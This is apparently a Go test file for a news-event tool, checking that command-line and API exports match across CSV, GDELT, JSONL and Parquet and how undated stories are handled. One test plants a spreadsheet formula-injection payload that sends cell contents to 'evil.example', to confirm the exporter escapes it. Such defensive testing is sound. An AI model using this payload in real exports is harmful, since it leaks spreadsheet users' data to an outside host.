package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/parquet-go/parquet-go"

	"dateline"
	"dateline/internal/export"
	"dateline/internal/store/sqlite"
	"dateline/internal/web"
)

// storedNews is a store holding the shipped stories.
func storedNews(t *testing.T) string {
	t.Helper()
	db := filepath.Join(t.TempDir(), "events.db")
	if _, _, err := runArgs(t, "", "ingest", "--db", db, filepath.Join("..", "..", "testdata", "news")); err != nil {
		t.Fatal(err)
	}
	return db
}

// apiGet serves the store on loopback and returns the body of GET path.
func apiGet(t *testing.T, db, path string) []byte {
	t.Helper()
	st, err := sqlite.Open(db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ts := httptest.NewServer((&web.Server{Store: st, Log: slog.New(slog.NewTextHandler(io.Discard, nil))}).Handler())
	defer ts.Close()
	resp, err := http.Get(ts.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("GET %s: %d %v %.200s", path, resp.StatusCode, err, body)
	}
	return body
}

// TestExports checks that the command line and the HTTP API write the same
// bytes for the same events in every export format, that a GDELT export
// dates its rows by when they were stored, not by when it runs, and that
// the Parquet file reads back whole.
func TestExports(t *testing.T) {
	db := storedNews(t)
	for _, format := range []string{"csv", "gdelt", "jsonl", "parquet"} {
		t.Run(format+" from both", func(t *testing.T) {
			cli, _, err := runArgs(t, "", "query", "--db", db, "--country", "IRQ", "--limit", "500", "--format", format)
			if err != nil {
				t.Fatal(err)
			}
			api := apiGet(t, db, "/v1/events?country=IRQ&limit=500&format="+format)
			if !bytes.Equal([]byte(cli), api) {
				t.Errorf("query --format %s and /v1/events?format=%s differ:\n%.300q\n%.300q", format, format, cli, api)
			}
			if len(api) < 100 {
				t.Errorf("got %d bytes, want the events", len(api))
			}
		})
	}
	t.Run("gdelt dated by the store", func(t *testing.T) {
		first, _, err := runArgs(t, "", "query", "--db", db, "--format", "gdelt")
		if err != nil {
			t.Fatal(err)
		}
		if second, _, err := runArgs(t, "", "query", "--db", db, "--format", "gdelt"); err != nil || second != first {
			t.Errorf("two GDELT exports of one store differ (err %v)", err)
		}
		st, err := sqlite.Open(db)
		if err != nil {
			t.Fatal(err)
		}
		defer st.Close()
		events, err := st.Events(context.Background(), dateline.Query{})
		if err != nil {
			t.Fatal(err)
		}
		origins, err := st.Origins(context.Background(), export.Docs(events))
		if err != nil {
			t.Fatal(err)
		}
		for i, line := range strings.Split(strings.TrimSpace(first), "\n") {
			f := strings.Split(line, "\t")
			if len(f) != 61 || len(f[1]) != 8 || f[51] == "" {
				t.Fatalf("row %d: got %d columns, SQLDATE %q, ActionGeo_Type %q; want 61 and both set", i, len(f), f[1], f[51])
			}
			if want := origins[events[i].Doc].Stored.UTC().Format("20060102150405"); f[59] != want {
				t.Errorf("row %d: DATEADDED got %s, want %s, when its story was stored", i, f[59], want)
			}
		}
	})
	t.Run("parquet reads back", func(t *testing.T) {
		out, _, err := runArgs(t, "", "query", "--db", db, "--limit", "100000", "--format", "parquet")
		if err != nil {
			t.Fatal(err)
		}
		rows, err := parquet.Read[export.ParquetEvent](strings.NewReader(out), int64(len(out)))
		if err != nil {
			t.Fatal(err)
		}
		if _, events := counts(t, db); len(rows) != events {
			t.Errorf("got %d rows, want the %d stored events", len(rows), events)
		}
	})
}

// TestCSVFormulaFromStory stores a story that opens with a spreadsheet
// formula and checks that neither the command line nor the API hands it to
// a spreadsheet as one.
func TestCSVFormulaFromStory(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "evil.jsonl")
	story := `{"id":"evil","published":"2019-09-23","text":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Egyptian police arrested 12 protesters in Cairo on Monday."}` + "\n"
	if err := os.WriteFile(in, []byte(story), 0o644); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(dir, "events.db")
	if _, _, err := runArgs(t, "", "ingest", "--db", db, in); err != nil {
		t.Fatal(err)
	}
	cli, _, err := runArgs(t, "", "query", "--db", db, "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	api := apiGet(t, db, "/v1/events?format=csv")
	for name, body := range map[string][]byte{"query": []byte(cli), "/v1/events": api} {
		recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%s: got %d records, %v; want a header and one event", name, len(recs), err)
		}
		col := slices.Index(recs[0], "sentence_text")
		if got := recs[1][col]; !strings.HasPrefix(got, `'=HYPERLINK(`) {
			t.Errorf("%s: sentence_text got %q, want it escaped with a leading quote", name, got)
		}
	}
}

// TestUndatedExports stores a story with no date and exports its events:
// the CSV leaves the date empty with the precision "unknown", GDELT fills
// SQLDATE with the day the story was stored as GDELT dates by its
// articles, and Parquet has null dates.
func TestUndatedExports(t *testing.T) {
	db := filepath.Join(t.TempDir(), "events.db")
	story := `{"id": "u", "text": "Libyan forces attacked rebels in Benghazi on Monday."}` + "\n"
	if _, errOut, err := runArgs(t, story, "ingest", "--db", db, "--in", "jsonl", "-"); err != nil || !strings.Contains(errOut, "no date") {
		t.Fatalf("ingest: %v; stderr %q, want a warning about the date", err, errOut)
	}
	out, _, err := runArgs(t, "", "query", "--db", db, "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatalf("csv: %v, %d records", err, len(recs))
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	if d, p := recs[1][col["date"]], recs[1][col["date_precision"]]; d != "" || p != "unknown" {
		t.Errorf("csv: got date %q precision %q, want empty and unknown", d, p)
	}
	gd, _, err := runArgs(t, "", "query", "--db", db, "--format", "gdelt")
	if err != nil {
		t.Fatal(err)
	}
	st, err := sqlite.Open(db)
	if err != nil {
		t.Fatal(err)
	}
	origins, err := st.Origins(context.Background(), []string{"u"})
	st.Close()
	if err != nil {
		t.Fatal(err)
	}
	f := strings.Split(strings.TrimSpace(gd), "\t")
	if want := origins["u"].Stored.UTC().Format("20060102"); len(f) != 61 || f[1] != want {
		t.Errorf("gdelt: got SQLDATE %q, want %s, the day stored", f[1], want)
	}
	pq, _, err := runArgs(t, "", "query", "--db", db, "--format", "parquet")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := parquet.Read[export.ParquetEvent](strings.NewReader(pq), int64(len(pq)))
	if err != nil || len(rows) == 0 {
		t.Fatalf("parquet: %v, %d rows", err, len(rows))
	}
	if r := rows[0]; r.Date != nil || r.DateFrom != nil || r.DatePrecision == nil || *r.DatePrecision != "unknown" {
		t.Errorf("parquet: got date %v from %v precision %v, want null, null, unknown", r.Date, r.DateFrom, r.DatePrecision)
	}
}
